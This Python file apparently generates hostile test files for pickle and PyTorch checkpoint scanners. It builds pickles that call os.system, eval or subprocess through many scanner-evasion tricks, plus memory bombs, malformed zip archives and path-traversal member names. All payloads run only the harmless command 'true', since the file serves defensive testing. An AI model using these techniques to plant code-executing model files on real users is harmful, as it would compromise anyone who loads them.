"""Files that would run code, exhaust memory or fool a scanner, were they loaded instead of read.

The tricks are those that the scanners picklescan, fickling and modelscan describe in their
advisories and tests, and that torch.load and zip readers were attacked with. Each payload is
harmless (`true`), so that the same bytes can be given to `pickle.loads` to prove that the trick
works there.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from checkpoint_bytes import (
    MAGIC,
    Call,
    Entry,
    Global,
    Pairs,
    Persistent,
    Raw,
    Tree,
    assemble,
    legacy_checkpoint,
    module,
    pickled,
    script_archive,
    tensor,
    zip_archive,
    zip_checkpoint,
)

# Calls that run code, write files or open connections, by the scanners' lists. The arguments are
# what a reader would see, not what the call needs.
GADGETS = (
    "os.system", "posix.system", "nt.system", "os.popen", "os.execv", "os.posix_spawn", "os.remove",
    "subprocess.Popen", "subprocess.check_output", "subprocess.getoutput", "commands.getoutput",
    "_posixsubprocess.fork_exec", "pty.spawn", "multiprocessing.util.spawnv_passfds",
    "builtins.eval", "builtins.exec", "builtins.compile", "builtins.getattr", "builtins.__import__",
    "builtins.open", "builtins.breakpoint", "builtins.apply", "__builtin__.eval",
    "__builtin__.execfile", "__builtin__.file", "io.open", "_io.FileIO", "io.FileIO",
    "code.InteractiveInterpreter.runcode", "codeop.compile_command", "runpy.run_path",
    "runpy._run_code", "importlib.import_module", "importlib.util.module_from_spec",
    "_frozen_importlib._gcd_import", "imp.load_source", "pkgutil.resolve_name", "pydoc.locate",
    "pydoc.pipepager", "zipimport.zipimporter", "site.addsitedir", "marshal.loads",
    "types.CodeType", "types.FunctionType", "cloudpickle.cloudpickle._make_function",
    "cloudpickle.cloudpickle.subimport", "dill._dill._load_type", "dill.loads", "pickle.loads",
    "_pickle.loads", "joblib.load", "joblib.numpy_pickle.NumpyArrayWrapper", "shelve.open",
    "numpy.load", "numpy.core.multiarray._reconstruct", "numpy.testing._private.utils.runstring",
    "numpy.f2py.crackfortran.getlincoef", "numpy.f2py.crackfortran._eval_length", "pandas.read_pickle",
    "torch.load", "torch.serialization.load", "torch.storage._load_from_bytes", "torch.hub.load",
    "torch.jit.load", "torch.utils.collect_env.run", "torch.utils._config_module.ConfigModule.load_config",
    "torch.utils.bottleneck.__main__.run_cprofile", "torch.jit.unsupported_tensor_ops.execWrapper",
    "torch._dynamo.guards.GuardBuilder.get", "torch._inductor.codecache.compile_file",
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.fx.graph_module.reduce_graph_module", "torch.distributed.rpc.api.remote",
    "torch.utils.data.datapipes.utils.decoder.basichandlers", "torch._C._jit_get_operation",
    "torch.multiprocessing.reductions.rebuild_storage_fd", "torch.multiprocessing.reductions.rebuild_storage_filename",
    "operator.attrgetter", "operator.methodcaller", "operator.itemgetter", "_operator.attrgetter",
    "operator.call", "functools.partial", "functools.reduce", "itertools.starmap", "map", "filter",
    "asyncio.unix_events._UnixSubprocessTransport._start", "asyncio.create_subprocess_shell",
    "bdb.Bdb.run", "pdb.run", "profile.run", "profile.runctx", "cProfile.run", "cProfile.runctx",
    "trace.Trace.run", "trace.Trace.runctx", "timeit.timeit", "doctest.debug_script", "typing._eval_type",
    "typing.get_type_hints", "dataclasses._create_fn", "collections.namedtuple", "enum._simple_enum",
    "idlelib.pyshell.ModifiedInterpreter.runcode", "idlelib.run.Executive.runcode",
    "idlelib.calltip.get_entity", "idlelib.debugobj.ObjectTreeItem.SetText",
    "lib2to3.pgen2.grammar.Grammar.loads", "lib2to3.pgen2.pgen.ParserGenerator.make_label",
    "ctypes.CDLL", "_ctypes.dlopen", "ctypes.util._findLib_gcc", "mmap.mmap", "sqlite3.connect",
    "gc.get_objects", "sys.settrace", "sys.exit", "sys.modules", "inspect.getattr_static",
    "atexit.register", "threading.Timer", "_thread.start_new_thread", "signal.signal",
    "weakref.finalize", "concurrent.futures.thread.ThreadPoolExecutor", "_xxsubinterpreters.run_string",
    "_interpreters.exec", "logging.FileHandler", "logging.config.fileConfig", "shutil.rmtree", "shutil.move",
    "tempfile.NamedTemporaryFile", "glob.glob", "fileinput.input", "linecache.getline", "filecmp.cmp",
    "distutils.file_util.write_file", "distutils.spawn.spawn", "setuptools._distutils.spawn.spawn",
    "pathlib.Path.unlink", "pathlib.Path.write_text", "tarfile.open", "zipfile.ZipFile", "compileall.compile_file",
    "py_compile.compile", "venv.create", "ensurepip._run_pip", "pip.main", "uuid._get_command_stdout",
    "_osx_support._read_output", "_aix_support._read_cmd_output", "_pyrepl.pager.pipe_pager",
    "test.support.script_helper.assert_python_ok", "imaplib.IMAP4_stream", "mailcap.findmatch",
    "pipes.Template.copy", "webbrowser.open", "antigravity.geohash", "socket.create_connection",
    "ssl.get_server_certificate", "urllib.request.urlopen", "http.client.HTTPSConnection", "httplib.HTTPConnection",
    "requests.api.get", "aiohttp.ClientSession", "smtplib.SMTP", "ftplib.FTP", "telnetlib.Telnet",
    "xmlrpc.client.ServerProxy", "socketserver.TCPServer", "platform.popen", "nntplib.NNTP",
    "copyreg._reconstructor", "copyreg.add_extension", "copy_reg._reconstructor", "sre_compile.compile",
    "keras.models.load_model", "tensorflow.io.read_file", "sklearn.utils._bunch.Bunch", "yaml.unsafe_load",
    "jsonpickle.decode", "transformers.utils.hub.cached_file", "omegaconf.OmegaConf.create", "hydra.utils.instantiate",
)  # fmt: skip

SYSTEM = Call(Global("os", "system"), ("true",))
RUN = assemble(SYSTEM)
EVAL = assemble(Call(Global("builtins", "eval"), ("1",)))


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def stack_global(module: str, name: str) -> bytes:
    return short(module) + short(name) + b"\x93"


@dataclass(frozen=True)
class Trick:
    """Opcodes that leave one value; `runs` if `pickle.loads` runs the payload on the way."""

    opcodes: bytes
    runs: bool = True


TRICKS: dict[str, Trick] = {
    "REDUCE": Trick(RUN),
    "REDUCE of a text global": Trick(b"(S'true'\ncos\nsystem\n0cos\nsystem\n(S'true'\ntR0t"),
    "INST": Trick(b"(S'true'\nios\nsystem\n"),
    "OBJ": Trick(b"(cos\nsystem\nS'true'\no"),
    "NEWOBJ": Trick(b"csubprocess\nPopen\n" + assemble(("true",)) + b"\x81"),
    "NEWOBJ_EX": Trick(b"csubprocess\nPopen\n" + assemble((["true"],)) + b"}\x92"),
    "STACK_GLOBAL": Trick(stack_global("os", "system") + short("true") + b"\x85R"),
    "STACK_GLOBAL with a dotted name": Trick(
        b"\x80\4" + stack_global("os", "path.os.system") + short("true") + b"\x85R"
    ),
    "GLOBAL with a dotted name": Trick(b"\x80\4cposixpath\nos.system\n" + assemble(("true",)) + b"R"),
    "STACK_GLOBAL of memo entries": Trick(
        short("os") + b"q\0" + short("system") + b"q\x01" + b"00" + b"h\0h\1\x93" + short("true") + b"\x85R"
    ),
    "memo entries put twice, so that a scanner sees harmless names": Trick(
        short("os") + b"q\0" + short("system") + b"q\1" + short("torch._utils") + b"\x94"
        + short("_rebuild_tensor_v2") + b"\x940000" + b"h\0h\1\x93" + short("true") + b"\x85R"
    ),
    "names by DUP and POP": Trick(short("os") + b"2" + short("system") + b"\x93" + short("true") + b"\x85R\x86"),
    "names in escaped text": Trick(b"V\\u006fs\nV\\u0073ystem\n\x93" + short("true") + b"\x85R"),
    "names in LONG_BINPUT": Trick(short("os") + b"r\0\1\0\0" + short("system") + b"\x93" + short("true") + b"\x85R"),
    "import and getattr": Trick(
        assemble(
            Call(
                Call(
                    Global("builtins", "getattr"),
                    (Call(Global("builtins", "__import__"), ("os",)), "system"),
                ),
                ("true",),
            )
        )
    ),
    "resolve_name": Trick(assemble(Call(Call(Global("pkgutil", "resolve_name"), ("os:system",)), ("true",)))),
    "methodcaller": Trick(
        assemble(
            Call(
                Call(Global("operator", "methodcaller"), ("system", "true")),
                (Call(Global("importlib", "import_module"), ("os",)),),
            )
        )
    ),
    "partial": Trick(assemble(Call(Call(Global("functools", "partial"), (Global("os", "system"), "true")), ()))),
    "map and list": Trick(
        assemble(
            Call(
                Global("builtins", "list"),
                (Call(Global("builtins", "map"), (Global("os", "system"), ["true"])),),
            )
        )
    ),
    "eval": Trick(EVAL),
    "exec": Trick(assemble(Call(Global("builtins", "exec"), ("1",)))),
    "compile": Trick(assemble(Call(Global("builtins", "compile"), ("1", "a", "eval")))),
    "timeit": Trick(assemble(Call(Global("timeit", "timeit"), ("1", "1")))),
    "runpy": Trick(assemble(Call(Global("runpy", "_run_code"), ("1", {})))),
    "BUILD calls __setstate__": Trick(
        b"ccollections\nCounter\n)\x81" + b"}X\x0c\0\0\0__setstate__cos\nsystem\nsb" + b"X\4\0\0\0trueb",
    ),
    "BUILD sets attributes of a module's function": Trick(
        b"cnumpy\nprod\nN}X\1\0\0\0aX\2\0\0\0oss\x86b", runs=False
    ),
    "BUILD of a class": Trick(b"cos\n_Environ\n}X\1\0\0\0aK\1sb", runs=False),
    "SETITEM of the environment": Trick(b"cos\nenviron\nX\1\0\0\0aX\1\0\0\0bs", runs=False),
    "SETITEMS of sys.modules": Trick(b"csys\nmodules\n(X\2\0\0\0osNu", runs=False),
    "APPEND to sys.path": Trick(b"csys\npath\nX\4\0\0\0/tmpa", runs=False),
    "ADDITEMS to a call": Trick(b"cbuiltins\nset\n)R(K\1\x90", runs=False),
    "APPENDS to a call": Trick(RUN + b"(K\1e", runs=False),
    "result popped": Trick(RUN + b"0K\1"),
    "results popped by a mark": Trick(b"(" + RUN + RUN + b"1K\1"),
    "call inside OBJ, popped": Trick(b"(cos\nsystem\nS'true'\no0K\1"),
    "inside a key": Trick(assemble(Pairs([(SYSTEM, 1)]))),
    "inside a key's tuple": Trick(assemble(Pairs([((SYSTEM,), 1)]))),
    "inside a set": Trick(b"\x8f(" + RUN + b"\x90"),
    "inside a frozenset": Trick(b"(" + RUN + b"\x91"),
    "inside a nested list": Trick(assemble([[[[SYSTEM]]]])),
    "inside a state": Trick(assemble(Call(Global("collections", "Counter"), (), {"a": SYSTEM}))),
    "inside keyword arguments": Trick(b"cbuiltins\nint\n)}X\1\0\0\0a" + RUN + b"s\x92"),
    "inside an OrderedDict's arguments": Trick(
        assemble(Call(Global("collections", "OrderedDict"), ([["a", SYSTEM]],)))
    ),
    "inside a persistent id": Trick(b"(" + RUN + b"tQ"),
    "persistent id of code": Trick(b"Pos.system('true')\n", runs=False),
    "as its own function": Trick(assemble(Call(SYSTEM, ("true",)))),
    "nested pickle": Trick(assemble(Call(Global("pickle", "loads"), (pickled(SYSTEM),)))),
    "nested pickle, C": Trick(assemble(Call(Global("_pickle", "loads"), (pickled(SYSTEM),)))),
    "pickle inside bytes": Trick(assemble(pickled(SYSTEM)), runs=False),
    "pickle inside text": Trick(assemble("cos\nsystem\n(S'true'\ntR."), runs=False),
    "archive inside bytes": Trick(assemble(zip_checkpoint({"a": SYSTEM})), runs=False),
    "nested torch file": Trick(
        assemble(Call(Global("torch.storage", "_load_from_bytes"), (legacy_checkpoint({"a": SYSTEM}),))),
        runs=False,
    ),
    "numpy scalar of objects": Trick(
        assemble(
            Call(
                Global("numpy.core.multiarray", "scalar"),
                (Call(Global("numpy", "dtype"), ("O8", False, True)), pickled(SYSTEM)),
            )
        ),
        runs=False,
    ),
    "numpy array of objects": Trick(
        assemble(
            Call(
                Global("numpy.core.multiarray", "_reconstruct"),
                (Global("numpy", "ndarray"), (0,), b"b"),
                (1, (1,), Call(Global("numpy", "dtype"), ("O8",)), False, [SYSTEM]),
            )
        )
    ),
    "joblib array": Trick(
        assemble(
            Call(
                Global("joblib.numpy_pickle", "NumpyArrayWrapper"),
                (),
                {"dtype": "O", "shape": (1,), "allow_mmap": True},
            )
        ),
        runs=False,
    ),
    "defaultdict factory": Trick(
        assemble(Call(Global("collections", "defaultdict"), (Global("os", "system"),))), runs=False
    ),
    "extension registry": Trick(b"\x82\1", runs=False),
    "extension registry, two bytes": Trick(b"\x83\1\0", runs=False),
    "extension registry, four bytes": Trick(b"\x84\1\0\0\0", runs=False),
    "import for its side effect": Trick(b"cantigravity\nfly\n", runs=False),
    "import of this": Trick(b"cthis\ns\n", runs=False),
    "frame that hides a global": Trick(b"\x95\3" + bytes(7) + b"cos\nsystem\n(S'true'\ntR"),
    "protocol named again": Trick(b"\x80\0" + RUN + b"\x80\5"),
    "protocol 0 text": Trick(b"(lp0\ncos\nsystem\np1\n(S'true'\np2\ntp3\nRp4\na"),
    "tensor whose hooks run": Trick(
        assemble(Call(tensor().function, (*tensor().arguments[:5], SYSTEM))), runs=False
    ),
    "tensor of a subclass that runs": Trick(
        assemble(
            Call(
                Global("torch._tensor", "_rebuild_from_type_v2"),
                (Global("os", "system"), Global("torch", "Tensor"), ("true",), {}),
            )
        ),
        runs=False,
    ),
    "size that runs": Trick(assemble(tensor(shape=SYSTEM)), runs=False),
    "storage that runs": Trick(assemble(tensor(storage=SYSTEM)), runs=False),
    "layout that runs": Trick(
        assemble(Call(Global("torch._utils", "_rebuild_sparse_tensor"), (SYSTEM, (1, 2, 3)))),
        runs=False,
    ),
}  # fmt: skip

# Pickles that are cut or broken behind the payload: it runs before the error.
BROKEN: dict[str, bytes] = {
    "cut behind the payload": b"\x80\2" + RUN,
    "garbage behind the payload": b"\x80\2" + RUN + b"\xff\xff\xff",
    "unknown protocol behind the payload": b"\x80\2" + RUN + b"\x80\xff.",
    "missing memo entry behind the payload": b"\x80\2" + RUN + b"h\x63.",
    "stack left behind": b"\x80\2K\1" + RUN + b".",
    "two pickles": pickled(1) + pickled(SYSTEM),
    "text behind the end": pickled(SYSTEM) + b"more",
}


def _bomb(levels: int, width: int) -> bytes:
    opcodes = b"](" + b"K\1" * width + b"eq\0"
    for level in range(levels):
        opcodes += b"0](" + (b"h" + bytes([level])) * width + b"eq" + bytes([level + 1])
    return opcodes


BOMBS: dict[str, bytes] = {
    "billion laughs": _bomb(60, 10),
    "exponential pairs": _bomb(200, 2),
    "deep tuple": b")" + b"\x85" * 40_000,
    "deep list": b"]" * 40_000 + b"a" * 39_999,
    "deep dict": b"}" + b"K\1}" * 30_000 + b"s" * 30_000,
    "deep call": b"cm\nf\n" + b")R" * 40_000,
    "deep persistent id": b"N" + b"Q" * 40_000,
    "many empty dicts": b"(" + b"}" * 60_000 + b"l",
    "many marks": b"(" * 40_000 + b"K\1",
    "integer of 2 GiB": b"\x8b\xff\xff\xff\x7f",
    "text of 4 GiB": b"X\xff\xff\xff\xff",
    "bytes of 2**64-1": b"\x8e" + b"\xff" * 8,
    "memo index of 4 billion": b"K\1r\xff\xff\xff\xff",
    "integer of a million digits": b"I" + b"9" * 1_000_000 + b"\n",
    "cycle of lists": b"]q\0h\0a",
    "cycle of dicts": b"}q\0K\1h\0s",
    "cycle of calls": b"cm\nf\n)Rq\0h\0b",
    "cycle through a persistent id": b"]q\0h\0Qa",
}


def pickles() -> Iterator[tuple[str, bytes]]:
    """Every hostile pickle, complete with protocol and STOP where it has one."""
    for name, trick in TRICKS.items():
        yield f"trick: {name}", b"\x80\2" + trick.opcodes + b"."
        yield f"trick, beside a tensor: {name}", beside_a_tensor(trick.opcodes)
    for gadget in GADGETS:
        module, _, name = gadget.rpartition(".")
        call = Call(Global(module or "builtins", name), ("true", ["true"], {"a": 1}))
        yield f"gadget: {gadget}", beside_a_tensor(assemble(call))
        named = stack_global(module or "builtins", name) + short("true") + b"\x85R"
        yield f"gadget, by stack: {gadget}", beside_a_tensor(named)
    for name, data in BROKEN.items():
        yield f"broken: {name}", data
    for name, opcodes in BOMBS.items():
        yield f"bomb: {name}", b"\x80\2" + opcodes + b"."
        yield f"bomb, beside a tensor: {name}", beside_a_tensor(opcodes)


def beside_a_tensor(opcodes: bytes) -> bytes:
    """A state dict with a tensor first, so that the reader goes on to the rest."""
    return pickled({"weight": tensor(), "payload": Raw(opcodes), "bias": tensor()})


def controls() -> Iterator[tuple[str, bytes]]:
    """Those that `pickle.loads` runs."""
    for name, trick in TRICKS.items():
        if trick.runs:
            yield name, b"\x80\4" + trick.opcodes + b"."
    for name, data in BROKEN.items():
        if name != "two pickles":
            yield name, data


def files() -> Iterator[tuple[str, bytes]]:
    """Every hostile file."""
    for name, data in pickles():
        yield f"{name}, bare", data
        yield f"{name}, in zip form", zip_checkpoint(data)
        if name.startswith(("trick", "bomb", "broken")):
            yield f"{name}, in the old form", legacy_checkpoint(data)
            yield f"{name}, as TorchScript", script_archive(data)
            attributes = module(Raw(data[2:-1])) if data.endswith(b".") else data
            yield f"{name}, as attributes", script_archive(attributes)
    yield from _legacy_files()
    yield from _archives()


def _legacy_files() -> Iterator[tuple[str, bytes]]:
    tree: Tree = {"weight": tensor()}
    number = pickled(Call(Global("builtins", "eval"), ("0x1950A86A20F9469CFC6C",)))
    yield "magic number by eval", legacy_checkpoint(tree, magic=number)
    yield "payload behind the magic number", legacy_checkpoint(tree, magic=MAGIC[:-1] + RUN + b"0.")
    yield "version that runs", legacy_checkpoint(tree, version=SYSTEM)
    yield "machine facts that run", legacy_checkpoint(tree, system=SYSTEM)
    yield (
        "machine facts with a payload",
        legacy_checkpoint(tree, system={"little_endian": True, "type_sizes": SYSTEM}),
    )
    yield "storage keys that run", legacy_checkpoint(tree, keys=SYSTEM)
    yield "storage keys with a payload", legacy_checkpoint(tree, keys=["0", SYSTEM])
    yield "payload behind the storages", legacy_checkpoint(tree, tail=pickled(SYSTEM))
    yield (
        "payload in a storage",
        legacy_checkpoint(tree, {"0": pickled(SYSTEM).ljust(24, b".")[:24]}),
    )
    yield (
        "sources of a class",
        legacy_checkpoint(
            {
                "weight": tensor(),
                "net": Persistent(("module", Global("os", "system"), "a.py", "import os")),
            }
        ),
    )


def _archives() -> Iterator[tuple[str, bytes]]:
    good = pickled({"weight": tensor()})
    bad = pickled({"weight": tensor(), "payload": SYSTEM})
    data = Entry(b"a/data.pkl", good)
    storage = Entry(b"a/data/0", bytes(24))
    for flag in (0x1, 0x20, 0x40, 0x2000, 0x8000):
        entry = Entry(b"a/data.pkl", bad, flags=flag)
        yield f"flag 0x{flag:x} of data.pkl", zip_archive([entry, storage])
        entry = Entry(b"a/data.pkl", bad, central={"flags": flag})
        yield f"flag 0x{flag:x} of data.pkl in the directory", zip_archive([entry, storage])
    for field, value in (
        ("crc32", 1), ("name", b"a/data.txt"), ("name", b"a/Data.pkl"), ("method", 8), ("size", 1),
        ("stored", 1), ("extra", b"up\x0f\0\1\0\0\0\0a/other.pkl"), ("signature", b"PK\0\0"),
    ):  # fmt: skip
        entry = Entry(b"a/data.pkl", bad, local={field: value})
        yield f"another {field} in the local header: {value!r}", zip_archive([entry, storage])
        entry = Entry(b"a/data.pkl", bad, central={field: value})
        yield f"another {field} in the directory: {value!r}", zip_archive([entry, storage])
    yield "data.pkl twice", zip_archive([data, Entry(b"a/data.pkl", bad), storage])
    yield "data.pkl in two folders", zip_archive([data, Entry(b"b/data.pkl", bad), storage])
    yield "data.pkl compressed", zip_archive([Entry(b"a/data.pkl", bad, method=8), storage])
    yield (
        "hidden second data.pkl",
        zip_archive([Entry(b"a/data.pkl", good, gap=Entry(b"a/data.pkl", bad).bytes()), storage]),
    )
    yield (
        "data.pkl that overlaps",
        zip_archive([Entry(b"a/data.pkl", bad), Entry(b"a/data/0", bytes(24), central={"at": 0})]),
    )
    yield "pickle before the archive", pickled(SYSTEM) + zip_archive([data, storage])
    yield "pickle as prefix, offsets right", zip_archive([data, storage], prefix=pickled(SYSTEM))
    yield "script before the archive", zip_archive([data, storage], prefix=b"#!/bin/sh\ntrue\n")
    yield "pickle behind the archive", zip_archive([data, storage], tail=pickled(SYSTEM))
    yield "pickle in the comment", zip_archive([data, storage], comment=pickled(SYSTEM))
    yield (
        "old form behind the archive",
        zip_archive([data, storage], tail=legacy_checkpoint({"weight": SYSTEM})),
    )
    yield (
        "archive in the comment",
        zip_archive([data, storage], comment=zip_archive([Entry(b"a/data.pkl", bad)])),
    )
    for path in (b"../../etc/passwd", b"/etc/passwd", b"a/../../x", b"a\\..\\x", b"a/\0x", b"C:/x"):
        yield f"member named {path!r}", zip_archive([data, storage, Entry(path, b"x")])
    yield (
        "payload in code",
        script_archive(
            module({"weight": tensor()}),
            members={
                "code/__torch__.py": b"import os\nos.system('true')\n",
                "code/__torch__.py.debug_pkl": pickled(SYSTEM),
                "traced_inputs.pkl": pickled(SYSTEM),
                "traced_inputs/0": pickled(SYSTEM),
                "extra/a.pkl": pickled(SYSTEM),
            },
        ),
    )
    yield (
        "payload in constants.pkl",
        script_archive(module({"weight": tensor()}), constants=(SYSTEM,)),
    )
    yield "constants.pkl that runs", script_archive(module({"weight": tensor()}), constants=SYSTEM)
    yield "class that runs", script_archive(Call(Global("__torch__", "os.system"), (), SYSTEM))
    yield "payload in the byte order", zip_checkpoint(good, members={"byteorder": pickled(SYSTEM)})
    yield "payload in the version", zip_checkpoint(good, members={"version": pickled(SYSTEM)})
    yield "payload in a storage", zip_checkpoint(good, {"0": pickled(SYSTEM).ljust(24, b".")[:24]})
    yield (
        "bomb of zeros as code",
        zip_archive(
            [
                Entry(b"a/data.pkl", pickled(module({"weight": tensor()}))),
                Entry(b"a/constants.pkl", pickled(())),
                Entry(b"a/code/a.py", bytes(60_000_000), method=8),
                storage,
            ]
        ),
    )
    yield "65535 members", zip_archive([data, storage], end={"here": 65_535, "count": 65_535})
    yield "2**63 members", zip_archive(
        [data, storage], zip64=True, end64={"count": 2**63, "here": 2**63},
        end={"count": 65_535, "here": 65_535},
    )  # fmt: skip
    yield "directory of 4 GiB", zip_archive([data, storage], end={"size": 0xFFFFFFFE})
    yield "office document", _zipped("[Content_Types].xml")
    yield "member of another archive", _zipped("model.ckpt")
    yield "end record alone", b"PK\5\6" + bytes(18)
    yield (
        "zip64 end alone",
        b"PK\6\6"
        + struct.pack("<Q", 44)
        + bytes(44)
        + b"PK\6\7"
        + bytes(16)
        + (b"PK\5\6" + bytes(18)),
    )


def _zipped(name: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as writer:
        writer.writestr(name, pickled(SYSTEM))
    return file.getvalue()
